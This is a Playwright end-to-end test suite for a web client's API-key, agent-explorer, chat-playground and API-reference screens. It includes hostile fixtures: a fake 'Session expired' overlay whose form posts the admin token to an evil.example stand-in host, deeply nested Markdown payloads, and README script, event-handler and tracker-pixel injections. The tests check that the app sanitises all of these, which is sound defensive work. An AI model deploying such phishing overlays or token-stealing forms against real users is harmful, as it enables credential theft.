import { join } from 'node:path';
import type { Browser, Page, Request as BrowserRequest, Route } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ChatCompletion } from '../../schemas/chat.ts';
import { createdKeySchema, keyListSchema } from '../../schemas/keys.ts';
import { agentSearchRequestSchema, agentSearchResponseSchema, searchClickRequestSchema } from '../../schemas/search.ts';
import { readDevVars } from '../../scripts/stack/dev-vars.ts';
import { secretsFiles } from '../../scripts/stack/secrets.ts';
import { ROOT } from '../../scripts/stack/stack.ts';
import { MAX_QUESTION_CHARS } from '../../schemas/question.ts';
import { sidewaysOverflow, unnamedControls } from './helpers/accessibility.ts';
import { launchBrowser } from './helpers/browser.ts';
import { screenshotPath } from './helpers/screenshots.ts';
import { DEMO_AGENTS, registerDemoAgents } from './helpers/demo-agents.ts';
import { createTempStack, type TempStack } from './helpers/temp-stack.ts';

describe('the client’s screens in a browser: API keys, agents explorer, chat playground, API reference', () => {
  let temp: TempStack;
  let browser: Browser;
  let page: Page;
  let adminToken: string;
  let registry: string;
  let chat: string;
  let apiKey: string;
  /** Requests the page made to the hostile README's hosts, and the page's Content-Security-Policy violations. */
  const evilRequests: string[] = [];
  const cspViolations: string[] = [];

  /** Watches a page for CSP violations (Chromium reports each as a console error). */
  function watchCsp(watched: Page): Page {
    watched.on('console', (message) => {
      if (message.type() === 'error' && /Content Security Policy/i.test(message.text())) cspViolations.push(message.text());
    });
    return watched;
  }

  const search = (key: string, text = '') =>
    fetch(`${registry}/v1/search/agents`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${key}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ search_text: text }),
    });

  beforeAll(async () => {
    temp = await createTempStack();
    for (const name of ['registry', 'chat', 'client'] as const) await temp.stack.start(name);
    ({ registry, chat } = temp.stack.urls);
    adminToken = readDevVars(secretsFiles(ROOT, join(temp.dir, 'secrets')).registry).ADMIN_TOKEN!;
    const created = await fetch(`${registry}/v1/keys`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${adminToken}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ name: 'demo agents', permissions: ['read', 'write'] }),
    });
    await registerDemoAgents(registry, createdKeySchema.parse(await created.json()).key);
    browser = await launchBrowser();
    page = watchCsp(await browser.newPage({ viewport: { width: 1100, height: 900 }, colorScheme: 'light' }));
    page.on('request', (request) => {
      if (new URL(request.url()).hostname.endsWith('evil.example')) evilRequests.push(request.url());
    });
    await page.goto(`${temp.stack.urls.client}/#keys`);
  });
  afterAll(async () => {
    await browser?.close();
    await temp?.dispose();
  });

  async function createKeyInPage(name: string): Promise<string> {
    await page.getByLabel('Name').fill(name);
    await page.getByRole('button', { name: 'Create key' }).click();
    const secret = page.getByTestId('new-key');
    await expect.poll(async () => (await secret.textContent())?.trim() ?? '').toMatch(/^rdv_/);
    await page.getByText(`Key “${name}” created.`).waitFor();
    return (await secret.textContent())!.trim();
  }

  it('API keys: the admin token creates a key shown once, the list never shows a secret, and revoking a key refuses it at once', async () => {
    await page.getByLabel('Admin token, or a key with the keys permission').fill(adminToken);
    await page.getByLabel('Admin token, or a key with the keys permission').press('Tab');
    await page.getByRole('heading', { name: 'Live keys' }).waitFor();

    apiKey = await createKeyInPage('playground and explorer');
    const row = page.locator('tr', { hasText: 'playground and explorer' });
    await row.waitFor();
    expect(await row.locator('.ui-tag').allTextContents()).toEqual(['read', 'chat']);
    expect(await page.locator('.keys-table').innerText()).not.toContain(apiKey.slice(-12));
    expect((await search(apiKey)).status).toBe(200);
    await page.screenshot({ path: screenshotPath('api-keys.png'), fullPage: true });
    await page.getByRole('button', { name: 'Use in explorer and playground' }).click();

    const temporary = await createKeyInPage('temporary');
    expect((await search(temporary)).status).toBe(200);
    const temporaryRow = page.locator('tr', { hasText: 'temporary' });
    await temporaryRow.getByRole('button', { name: 'Revoke' }).click();
    await temporaryRow.getByRole('button', { name: 'Confirm revoke' }).click();
    await temporaryRow.waitFor({ state: 'detached' });
    expect(await page.locator('tr', { hasText: 'playground and explorer' }).count()).toBe(1);
    expect((await search(temporary)).status).toBe(401);
    await page.getByRole('button', { name: 'Done' }).click();
  });

  it('API keys: a key’s limits are edited in its row; bad input is caught before sending, a refusal shows in the row, and GET /v1/keys lists the new limits', async () => {
    const row = page.locator('tr', { hasText: 'playground and explorer' });
    const id = (await row.getAttribute('data-key-id'))!;
    const shown = (field: 'requests_per_minute' | 'tokens_per_minute') => row.locator(`[data-limit="${field}"]`).textContent();
    const listed = async () => {
      const response = await fetch(`${registry}/v1/keys`, { headers: { Authorization: `Bearer ${adminToken}` } });
      return keyListSchema.parse(await response.json()).keys.find((key) => key.id === id);
    };
    const patches: unknown[] = [];
    const recordPatch = (request: BrowserRequest) => {
      if (request.method() === 'PATCH' && request.url() === `${registry}/v1/keys/${id}`) patches.push(request.postDataJSON());
    };
    page.on('request', recordPatch);
    expect(await shown('requests_per_minute')).toBe('default');
    expect(await shown('tokens_per_minute')).toBe('default');

    await row.getByRole('button', { name: 'Edit limits' }).click();
    const rpm = row.getByLabel('Requests / minute');
    const tpm = row.getByLabel('Tokens / minute');
    const save = row.getByRole('button', { name: 'Save' });
    const alert = row.getByRole('alert');
    await rpm.fill('0');
    await save.click();
    await alert.filter({ hasText: 'Requests / minute: “0” is not a whole number of at least 1' }).waitFor();
    await rpm.fill('');
    await tpm.fill('2.5');
    await save.click();
    await alert.filter({ hasText: 'Tokens / minute: “2.5” is not a whole number of at least 1' }).waitFor();
    expect(patches).toEqual([]);

    await rpm.fill('2000000');
    await tpm.fill('');
    const refused = page.waitForResponse((response) => response.request().method() === 'PATCH');
    await save.click();
    expect((await refused).status()).toBe(400);
    await alert.filter({ hasText: 'limits.requests_per_minute' }).waitFor();
    expect((await listed())?.limits).toBeNull();

    await rpm.fill('120');
    await tpm.fill('50000');
    await save.click();
    await expect.poll(() => shown('requests_per_minute')).toBe('120');
    expect(await shown('tokens_per_minute')).toBe('50000');
    expect(await save.count()).toBe(0);
    expect(patches.at(-1)).toEqual({ limits: { requests_per_minute: 120, tokens_per_minute: 50000 } });
    expect((await listed())?.limits).toEqual({ requests_per_minute: 120, tokens_per_minute: 50000 });

    // Both inputs emptied: the defaults again (limits null).
    await row.getByRole('button', { name: 'Edit limits' }).click();
    expect(await rpm.inputValue()).toBe('120');
    await rpm.fill('');
    await tpm.fill('');
    await save.click();
    await expect.poll(() => shown('requests_per_minute')).toBe('default');
    expect(await shown('tokens_per_minute')).toBe('default');
    expect(patches.at(-1)).toEqual({ limits: null });
    expect((await listed())?.limits).toBeNull();
    page.off('request', recordPatch);
  });

  it('Agents: lists and pages the registry in one search session, searches as you type, and opening an agent sends click feedback', async () => {
    const searches: { body: unknown; response: Promise<unknown> }[] = [];
    page.on('request', (request) => {
      if (request.url() === `${registry}/v1/search/agents` && request.method() === 'POST') {
        searches.push({
          body: agentSearchRequestSchema.parse(request.postDataJSON()),
          response: request.response().then((r) => r?.json()),
        });
      }
    });
    // The demo agents and the chat Worker's own agent, as the registry lists them to this key.
    const agentsListed = agentSearchResponseSchema.parse(await (await search(apiKey)).json()).total;
    expect(agentsListed).toBe(DEMO_AGENTS.length + 1);
    await page.getByRole('button', { name: 'Agents', exact: true }).click();
    expect(await page.getByLabel('API key (read permission)').inputValue()).toBe(apiKey);
    await page.getByText(`${agentsListed} agents`).waitFor();
    await page.getByText('Page 1 of 2').waitFor();
    expect(await page.locator('.agent-card').count()).toBe(10);
    const firstPage = (await searches.at(-1)!.response) as { search_id: string };

    await page.getByRole('button', { name: 'Next →' }).click();
    await page.getByText('Page 2 of 2').waitFor();
    expect(await page.locator('.agent-card').count()).toBe(agentsListed - 10);
    expect(searches.at(-1)!.body).toMatchObject({ offset: 10, limit: 10, search_id: firstPage.search_id });

    // The operator features the weather agent (admin API): its card says so.
    const weather = (await (await search(apiKey, 'weather forecast')).json()) as { agents: { address: string; name: string }[] };
    expect(weather.agents[0]!.name).toBe('Weather forecaster');
    expect(
      (
        await fetch(`${registry}/v1/featured-agents/${weather.agents[0]!.address}`, {
          method: 'PUT',
          headers: { Authorization: `Bearer ${adminToken}` },
        })
      ).status,
    ).toBe(200);

    await page.getByLabel('Search agents').pressSequentially('weather forecast', { delay: 40 });
    await expect.poll(() => page.locator('.agent-card').first().locator('.agent-card-title').textContent()).toBe('Weather forecaster');
    expect(searches.at(-1)!.body).toMatchObject({ search_text: 'weather forecast', offset: 0 });
    expect(searches.at(-1)!.body).not.toHaveProperty('search_id');
    const card = page.locator('.agent-card').first();
    expect(await card.locator('.agent-card-featured').textContent()).toBe('Featured');
    expect(await page.locator('.agent-card-featured').count()).toBe(1);
    expect(await card.locator('.ui-status').textContent()).toMatch(/^(active|offline|local)$/);
    expect(await card.locator('.ui-tag').allTextContents()).toEqual(expect.arrayContaining(['weather', 'forecast']));
    await page.screenshot({ path: screenshotPath('agents-explorer.png'), fullPage: true });

    const session = (await searches.at(-1)!.response) as { search_id: string; agents: { address: string }[] };
    const click = page.waitForRequest((request) => request.url() === `${registry}/v1/search/agents/click`);
    await card.locator('.agent-card-title').click();
    const sent = await click;
    expect(searchClickRequestSchema.parse(sent.postDataJSON())).toEqual({
      search_id: session.search_id,
      page_index: 0,
      address: session.agents[0]!.address,
    });
    expect((await sent.response())?.status()).toBe(200);

    await page.getByRole('heading', { name: 'Weather forecaster', level: 2 }).waitFor();
    await page.locator('.readme h1', { hasText: 'Weather forecaster' }).waitFor();
    expect(await page.locator('.readme .readme-badge').allTextContents()).toEqual(['weather', 'forecast', 'Weather']);
    expect(await page.locator('.readme-badge.domain').evaluate((node) => getComputedStyle(node).backgroundColor)).toBe('rgb(31, 119, 180)');
    await page.getByRole('heading', { name: 'What it accepts' }).waitFor();
    expect(await page.locator('.agent-view-function code').allTextContents()).toEqual(['city']);
    await page.screenshot({ path: screenshotPath('agent-readme.png'), fullPage: true });
  });

  it('Agents: a README’s scripts, event handlers and javascript: links are removed; an invalid domain badge shows as broken', async () => {
    await page.getByRole('button', { name: '← Back to results' }).click();
    await page.getByLabel('Search agents').fill('currency converter');
    await expect.poll(() => page.locator('.agent-card').first().locator('.agent-card-title').textContent()).toBe('Currency converter');
    await page.locator('.agent-card-title').first().click();
    await page.locator('.readme h1', { hasText: 'Currency converter' }).waitFor();
    expect(await page.locator('.readme script, .readme [onerror]').count()).toBe(0);
    expect(await page.locator('.readme').innerText()).toContain('a link');
    expect(await page.locator('.readme [href^="javascript:" i]').count()).toBe(0);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBeUndefined();
    expect(await page.locator('.readme-badge.broken').textContent()).toContain('finance');

    const readme = page.locator('.readme');
    expect(await readme.locator('style, form, input, button, iframe, img, [style], .shell-header').count()).toBe(0);
    expect(await readme.innerText()).toContain('Session expired: paste your admin token to continue.');
    expect(await page.locator('.shell').isVisible()).toBe(true);
    expect(await page.getByRole('button', { name: 'Agents', exact: true }).isVisible()).toBe(true);
    const source = readme.getByRole('link', { name: 'rate source' });
    expect(await source.getAttribute('href')).toBe('https://rates.example/fx');
    expect(await source.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(await readme.getByRole('link', { name: 'image: tracker' }).getAttribute('href')).toBe('https://evil.example/pixel.png');
    expect(evilRequests).toEqual([]);
  });

  it('Chat playground: the model picker lists /v1/models; a reply streams with the thought apart and the agents discovery found', async () => {
    await page.getByRole('button', { name: 'Chat', exact: true }).click();
    const select = page.getByLabel('Model');
    await expect
      .poll(() => select.locator('option').evaluateAll((options) => options.map((o) => (o as HTMLOptionElement).value)))
      .toEqual(expect.arrayContaining(['llm1', 'llm1-mini']));
    await page.getByLabel('Discover agents').check();
    const question = 'Which agent can tell me the weather in Paris tomorrow?';
    await page.getByLabel('Message').fill(question);
    const completion = page.waitForResponse((response) => response.url() === `${chat}/v1/chat/completions`);
    await page.getByRole('button', { name: 'Send' }).click();
    const response = await completion;
    expect(response.headers()['content-type']).toContain('text/event-stream');
    expect(response.request().postDataJSON()).toMatchObject({
      stream: true,
      agent_discovery: true,
      messages: [{ role: 'user', content: question }],
    });

    const reply = page.locator('.playground-reply[data-streaming="false"]');
    await reply.waitFor({ timeout: 30_000 });
    const model = await select.inputValue();
    const direct = await fetch(`${chat}/v1/chat/completions`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${apiKey}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ model, messages: [{ role: 'user', content: question }], agent_discovery: true }),
    });
    const expected = ChatCompletion.parse(await direct.json());
    expect(await reply.locator('.playground-content').innerText()).toBe(expected.choices[0]!.message.content!.trim());
    await reply.locator('.playground-thought summary').click();
    expect((await reply.locator('.playground-thought p').innerText()).trim()).toBe(expected.choices[0]!.message.reasoning_content!.trim());
    expect(await reply.locator('.playground-agent strong').allTextContents()).toEqual(expected.executable_data.map((agent) => agent.name));
    expect(expected.executable_data.map((agent) => agent.name)).toContain('Weather forecaster');
    await page.screenshot({ path: screenshotPath('chat-playground.png'), fullPage: true });
  });

  it('every screen’s controls, and an agent’s page’s, have a name in Chromium’s accessibility tree (the playground’s system prompt included)', async () => {
    const screens = [
      { nav: 'Ask an agent', ready: () => page.getByRole('textbox', { name: 'Question', exact: true }).waitFor() },
      { nav: 'Agents', ready: () => page.locator('.agent-card').first().waitFor() },
      {
        nav: 'Chat',
        ready: async () => {
          await page.locator('.playground-system summary').click();
          await page.getByRole('textbox', { name: 'System prompt', exact: true }).waitFor();
        },
      },
      { nav: 'API keys', ready: () => page.getByRole('heading', { name: 'Live keys' }).waitFor() },
    ];
    for (const { nav, ready } of screens) {
      await page.getByRole('button', { name: nav, exact: true }).click();
      await ready();
      expect(await unnamedControls(page), nav).toEqual([]);
    }
    await page.getByRole('button', { name: 'Agents', exact: true }).click();
    await page.locator('.agent-card-title').first().click();
    await page.locator('.agent-view').waitFor();
    expect(await unnamedControls(page), 'an agent’s page').toEqual([]);
  });

  it('a wrong admin token or API key, or the chat Worker unreachable: the keys, agents and chat screens each say why in an alert, which screen readers announce', async () => {
    const wrong = await browser.newPage({ viewport: { width: 1100, height: 900 }, colorScheme: 'light' });
    await wrong.goto(`${temp.stack.urls.client}/#keys`);
    await wrong.getByLabel('Admin token, or a key with the keys permission').fill('rdv_not-a-key');
    await wrong.getByLabel('Admin token, or a key with the keys permission').press('Tab');
    await wrong
      .getByRole('alert')
      .getByText(/^Cannot list keys: invalid API key/)
      .waitFor();

    await wrong.getByRole('button', { name: 'Agents', exact: true }).click();
    await wrong.getByLabel('API key (read permission)').fill('rdv_not-a-key');
    await wrong.getByLabel('API key (read permission)').press('Tab');
    await wrong
      .getByRole('alert')
      .getByText(/^Search failed: /)
      .waitFor();

    const chatOrigin = new URL(chat).origin;
    await wrong.route(
      (url) => url.origin === chatOrigin,
      (route) => route.abort('connectionrefused'),
    );
    await wrong.getByRole('button', { name: 'Chat', exact: true }).click();
    await wrong
      .getByRole('alert')
      .getByText(/^Cannot list models: /)
      .waitFor();
    await wrong.close();
  });

  it('a proxy’s HTML error page, or a JSON error of another shape, is reported by its status and never shown as source', async () => {
    const proxied = await browser.newPage({ viewport: { width: 1100, height: 900 }, colorScheme: 'light' });
    const bodies = [
      { contentType: 'text/html', body: '<html><body><h1>502 Bad Gateway</h1><hr>nginx</body></html>' },
      { contentType: 'application/json', body: '{"message":"upstream timed out","trace":"at handler (proxy.js:12)"}' },
    ];
    let next = 0;
    await proxied.route(`${registry}/v1/search/agents`, (route) =>
      route.fulfill({ status: 502, ...bodies[next]!, headers: { 'Access-Control-Allow-Origin': '*' } }),
    );
    await proxied.goto(`${temp.stack.urls.client}/#explorer`);
    const key = proxied.getByLabel('API key (read permission)');
    for (const [index, { body }] of bodies.entries()) {
      next = index;
      await key.fill(`${apiKey}${index}`);
      await key.press('Tab');
      const alert = proxied.getByRole('alert');
      await alert.getByText(`Search failed: ${registry} answered 502 Bad Gateway`, { exact: true }).waitFor();
      expect(await alert.innerText()).not.toContain(body.slice(0, 12));
    }
    await proxied.close();
  });

  /** A page on the ask screen whose router (faked in the browser) takes the question and answers each poll with `poll`. */
  async function askWithRouter(poll: (route: Route) => Promise<void> | void): Promise<Page> {
    const ask = watchCsp(await browser.newPage({ viewport: { width: 1100, height: 900 }, colorScheme: 'light' }));
    const cors = {
      'Access-Control-Allow-Origin': '*',
      'Access-Control-Allow-Methods': 'GET, POST',
      'Access-Control-Allow-Headers': 'content-type',
    };
    const router = new URL(temp.stack.urls.router).origin;
    await ask.route(
      (url) => url.origin === router,
      (route) => {
        const request = route.request();
        if (request.method() === 'OPTIONS') return route.fulfill({ status: 204, headers: cors });
        if (new URL(request.url()).pathname === '/api/send-request') {
          return route.fulfill({ json: { status: 'request_sent', request_id: crypto.randomUUID() }, headers: cors });
        }
        return poll(route);
      },
    );
    return ask;
  }

  async function ask(askPage: Page, question: string): Promise<void> {
    await askPage.goto(temp.stack.urls.client);
    await askPage.locator('textarea[name="question"]').fill(question);
    await askPage.getByRole('button', { name: 'Ask', exact: true }).click();
  }

  it('Ask an agent: a router that takes the question and never answers a poll: the client stops and says so at 120 s', async () => {
    const polls: string[] = [];
    const askPage = await askWithRouter((route) => {
      polls.push(route.request().url());
    });
    await askPage.clock.install();
    await ask(askPage, 'What was Apple’s revenue in its latest annual report?');
    await askPage.getByText(/Waiting for the specialist’s analysis/).waitFor();
    await askPage.clock.runFor(119_000);
    expect(await askPage.getByText(/No answer after/).count()).toBe(0);
    await askPage.clock.runFor(2_000);
    await askPage.getByText('No answer after 120 s; polling stopped. Ask again to retry.').waitFor();
    expect(polls.length).toBeGreaterThanOrEqual(1);
    expect(await askPage.getByRole('button', { name: 'Ask', exact: true }).isVisible()).toBe(true);
    await askPage.close();
  });

  it('Ask an agent: a hostile answer is reduced to its text, and answers nested 50 000 deep show as plain text without breaking the page', async () => {
    const overlay =
      '<style>.shell { display: none }</style><div style="position: fixed; inset: 0; z-index: 99"><form action="https://evil.example/steal">' +
      '<p>Session expired: paste your admin token.</p><input type="password" name="token"><button>Continue</button></form></div>';
    const analysis = [
      { role: 'overlay', name: 'Overlay', content: overlay },
      { role: 'quotes', name: 'Quotes', content: `${'>'.repeat(50_000)} deep` },
      { role: 'brackets', name: 'Brackets', content: '['.repeat(50_000) },
    ];
    const askPage = await askWithRouter((route) =>
      route.fulfill({ json: { analysis_result: { analysis } }, headers: { 'Access-Control-Allow-Origin': '*' } }),
    );
    await ask(askPage, 'Summarise the risk factors in Tesla’s latest 10-K.');
    const items = askPage.locator('.analysis-item');
    await expect.poll(() => items.count(), { timeout: 20_000 }).toBe(3);
    expect(await askPage.locator('.analysis :is(style, form, input, button, [style])').count()).toBe(0);
    expect(await items.nth(0).innerText()).toContain('Session expired: paste your admin token.');
    expect(await items.nth(1).locator('.markdown-notice').textContent()).toBe(
      'Shown as plain text: its Markdown nests deeper than 16 levels.',
    );
    expect((await items.nth(1).locator('.markdown-plain').textContent())?.length).toBe(50_005);
    expect((await items.nth(2).innerText()).length).toBeGreaterThan(50_000);
    expect(await askPage.locator('.shell-header').isVisible()).toBe(true);
    await askPage.getByRole('button', { name: 'Agents', exact: true }).click();
    await askPage.getByLabel('API key (read permission)').waitFor();
    await askPage.close();
  });

  it('Ask an agent: a question over 10 000 characters is refused before it is sent, saying so; one character less may be sent', async () => {
    const sent: string[] = [];
    const askPage = await askWithRouter((route) =>
      route.fulfill({ json: { status: 'waiting' }, headers: { 'Access-Control-Allow-Origin': '*' } }),
    );
    askPage.on('request', (request) => {
      if (request.method() === 'POST' && request.url().endsWith('/api/send-request')) sent.push(request.url());
    });
    await askPage.goto(temp.stack.urls.client);
    const box = askPage.getByRole('textbox', { name: 'Question', exact: true });
    const askButton = askPage.getByRole('button', { name: 'Ask', exact: true });
    await box.fill('x'.repeat(MAX_QUESTION_CHARS + 1));
    await askPage.getByRole('alert').getByText('A question is at most 10,000 characters; this one has 10,001.').waitFor();
    expect(await askButton.isDisabled()).toBe(true);
    await box.press('Enter');
    await askPage.waitForTimeout(500);
    expect(sent).toEqual([]);
    expect(await askPage.locator('.turn').count()).toBe(0);

    await box.press('Backspace');
    expect(await askPage.getByRole('alert').count()).toBe(0);
    await box.press('Enter');
    await askPage.getByText(/Waiting for the specialist’s analysis/).waitFor();
    expect(sent).toHaveLength(1);
    await askPage.close();
  });

  it('Ask an agent: with the router unreachable the page says so and puts the question back in the box, where Enter asks again', async () => {
    const askPage = watchCsp(await browser.newPage({ viewport: { width: 1100, height: 900 }, colorScheme: 'light' }));
    const router = new URL(temp.stack.urls.router).origin;
    await askPage.route(
      (url) => url.origin === router,
      (route) => route.abort('connectionrefused'),
    );
    const question = 'What was Apple’s revenue in its latest annual report?';
    await ask(askPage, question);
    await askPage.getByText(/^Something went wrong: cannot reach the router at /).waitFor();
    const box = askPage.getByRole('textbox', { name: 'Question', exact: true });
    expect(await box.inputValue()).toBe(question);
    await box.press('Enter');
    await expect.poll(() => askPage.locator('.turn[data-state="error"]').count()).toBe(2);
    await askPage.close();
  });

  it('on a 390×844 phone every screen fits the width (the navigation wraps), and opening the site logs no console error', async () => {
    const phone = await browser.newPage({ viewport: { width: 390, height: 844 }, colorScheme: 'light' });
    const consoleErrors: string[] = [];
    phone.on('console', (message) => {
      if (message.type() === 'error') consoleErrors.push(message.text());
    });
    await phone.goto(temp.stack.urls.client);
    await phone.getByRole('textbox', { name: 'Question', exact: true }).waitFor();
    await phone.waitForLoadState('load');
    // Without an icon of its own Chromium asks for /favicon.ico, and logs the 404 as a console error.
    const icon = phone.locator('link[rel="icon"]');
    expect(await icon.count()).toBe(1);
    expect((await fetch(new URL((await icon.getAttribute('href'))!, temp.stack.urls.client))).status).toBe(200);
    expect(consoleErrors).toEqual([]);
    const screens = { 'Ask an agent': 'reference', Agents: 'explorer', Chat: 'playground', 'API keys': 'keys', 'Hosted agents': 'hosting' };
    for (const [nav, section] of Object.entries(screens)) {
      await phone.getByRole('button', { name: nav, exact: true }).click();
      await phone.locator(`section.${section}`).waitFor();
      expect(await sidewaysOverflow(phone), nav).toEqual([]);
    }
    await phone.screenshot({ path: screenshotPath('phone-hosting.png') });
    await phone.close();
  });

  it('the site sends its CSP (calls to the configured APIs only, no framing) and framing, sniffing and referrer headers; no screen broke its policy', async () => {
    const response = await fetch(temp.stack.urls.client);
    const csp = response.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain(`connect-src 'self' ${temp.stack.urls.router} ${registry} ${chat}`);
    expect(response.headers.get('x-frame-options')).toBe('DENY');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('referrer-policy')).toBe('no-referrer');
    // The hostile README's onerror handler: Chromium reports it blocked while the sanitiser parses the README (inertly).
    expect(cspViolations.filter((violation) => !violation.startsWith('Executing inline event handler'))).toEqual([]);
  });

  it('API reference: the registry’s /docs page renders its OpenAPI document and sends a request from it', async () => {
    const docs = await browser.newPage({ viewport: { width: 1100, height: 900 }, colorScheme: 'light' });
    await docs.goto(`${registry}/docs`);
    await docs.getByRole('heading', { name: /Rendezvous registry/ }).waitFor();
    await docs.getByLabel('Bearer token').fill(apiKey);
    const operation = docs.locator('details[data-op="POST /v1/search/agents"]');
    await operation.locator(':scope > summary').click();
    await operation.getByRole('button', { name: 'Send request' }).click();
    await operation.locator('.output[data-state="done"]').waitFor();
    expect(await operation.getByTestId('response-status').textContent()).toBe('200');
    expect(JSON.parse(await operation.getByTestId('response-body').innerText())).toMatchObject({
      agents: expect.any(Array),
      search_id: expect.any(String),
    });
    await operation.scrollIntoViewIfNeeded();
    await docs.screenshot({ path: screenshotPath('api-reference.png'), fullPage: false });
    await docs.close();
  });
});
